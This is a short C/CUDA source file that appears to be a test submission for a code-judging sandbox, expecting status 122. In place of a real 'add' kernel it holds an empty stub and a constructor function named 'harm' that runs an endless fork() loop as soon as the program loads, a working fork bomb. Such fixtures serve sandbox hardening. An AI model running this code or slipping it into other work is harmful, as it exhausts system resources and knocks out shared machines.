// SPDX-License-Identifier: MIT
// Forks without end. Status: 122
#include <unistd.h>

#include "judge/add.h"

__attribute__((constructor)) static void harm()
{
    for (;;)
        fork();
}

__global__ void add(const int *, const int *, int *, int) {}
